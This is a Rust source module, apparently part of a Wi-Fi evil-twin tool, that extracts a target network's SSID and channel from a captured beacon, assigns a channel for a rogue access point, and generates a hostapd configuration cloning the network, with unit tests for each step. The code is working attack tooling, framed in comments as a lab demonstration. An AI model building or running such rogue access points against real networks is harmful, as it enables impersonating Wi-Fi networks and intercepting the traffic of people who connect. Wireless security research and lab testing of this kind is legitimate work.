//! Target-network metadata derived from the captured beacon, and the rogue
//! hostapd configuration rendered from it.

use crate::dot11;
use crate::error::{AttackError, Result};

/// Fixed demonstration passphrase written into the rogue AP config.
const ROGUE_PASSPHRASE: &str = "12345678";

/// Identity and channel plan of the cloned network. Built once after
/// discovery and immutable afterwards.
#[derive(Debug, Clone)]
pub struct NetworkProfile {
    pub ssid: String,
    /// Channel the target actually beacons on (from the DS parameter set).
    pub real_channel: u8,
    /// Channel the rogue AP will occupy.
    pub rogue_channel: u8,
    pub wpa_version: u8,
    pub hw_mode: char,
}

/// Partition rule for the rogue channel: targets on the upper half of the
/// band get channel 11, everyone else gets channel 1. A target on channel 11
/// therefore collides with its own clone; callers are expected to warn.
pub fn rogue_channel_for(real_channel: u8) -> u8 {
    if real_channel > 6 {
        11
    } else {
        1
    }
}

impl NetworkProfile {
    /// Extract SSID (element 0) and channel (element 3) from a beacon and
    /// derive the channel plan.
    pub fn from_beacon(beacon: &[u8]) -> Result<Self> {
        let ssid = dot11::element_value(beacon, dot11::ELEM_SSID)
            .ok_or(AttackError::Profile("SSID"))?;
        let channel = dot11::element_value(beacon, dot11::ELEM_DS_CHANNEL)
            .and_then(|v| v.first().copied())
            .ok_or(AttackError::Profile("DS channel"))?;

        Ok(Self {
            ssid: String::from_utf8_lossy(ssid).into_owned(),
            real_channel: channel,
            rogue_channel: rogue_channel_for(channel),
            wpa_version: 1,
            hw_mode: 'g',
        })
    }

    /// Render the hostapd configuration for the rogue AP interface. The SSID
    /// gets a suffix so lab captures distinguish clone from original.
    pub fn hostapd_config(&self, iface: &str) -> String {
        format!(
            "interface={iface}\n\
             ssid={ssid}_test\n\
             beacon_int=50\n\
             macaddr_acl=0\n\
             ignore_broadcast_ssid=0\n\
             \n\
             hw_mode={hw}\n\
             channel={channel}\n\
             \n\
             wpa={wpa}\n\
             wpa_passphrase={password}\n\
             wpa_key_mgmt=WPA-PSK\n\
             rsn_pairwise=CCMP\n",
            iface = iface,
            ssid = self.ssid,
            hw = self.hw_mode,
            channel = self.rogue_channel,
            wpa = self.wpa_version,
            password = ROGUE_PASSPHRASE,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dot11::{test_beacon, ELEM_DS_CHANNEL, ELEM_SSID};

    #[test]
    fn rogue_channel_partition() {
        for real in 1..=13u8 {
            let rogue = rogue_channel_for(real);
            if real > 6 {
                assert_eq!(rogue, 11, "channel {real}");
            } else {
                assert_eq!(rogue, 1, "channel {real}");
            }
        }
        // The channel-11 collision is deliberate (see DESIGN notes).
        assert_eq!(rogue_channel_for(11), 11);
    }

    #[test]
    fn profile_from_beacon() {
        let beacon = test_beacon(&[(ELEM_SSID, b"Target"), (ELEM_DS_CHANNEL, &[9])]);
        let profile = NetworkProfile::from_beacon(&beacon).unwrap();
        assert_eq!(profile.ssid, "Target");
        assert_eq!(profile.real_channel, 9);
        assert_eq!(profile.rogue_channel, 11);
    }

    #[test]
    fn profile_requires_ssid_and_channel() {
        let no_channel = test_beacon(&[(ELEM_SSID, b"Target")]);
        assert!(matches!(
            NetworkProfile::from_beacon(&no_channel),
            Err(AttackError::Profile("DS channel"))
        ));
        let no_ssid = test_beacon(&[(ELEM_DS_CHANNEL, &[3])]);
        assert!(matches!(
            NetworkProfile::from_beacon(&no_ssid),
            Err(AttackError::Profile("SSID"))
        ));
    }

    #[test]
    fn hostapd_config_keys() {
        let beacon = test_beacon(&[(ELEM_SSID, b"Target"), (ELEM_DS_CHANNEL, &[3])]);
        let profile = NetworkProfile::from_beacon(&beacon).unwrap();
        let cfg = profile.hostapd_config("wlan2");

        assert!(cfg.contains("interface=wlan2\n"));
        assert!(cfg.contains("ssid=Target_test\n"));
        assert!(cfg.contains("beacon_int=50\n"));
        assert!(cfg.contains("macaddr_acl=0\n"));
        assert!(cfg.contains("ignore_broadcast_ssid=0\n"));
        assert!(cfg.contains("hw_mode=g\n"));
        assert!(cfg.contains("channel=1\n"));
        assert!(cfg.contains("wpa=1\n"));
        assert!(cfg.contains("wpa_passphrase=12345678\n"));
        assert!(cfg.contains("wpa_key_mgmt=WPA-PSK\n"));
        assert!(cfg.contains("rsn_pairwise=CCMP\n"));
    }
}
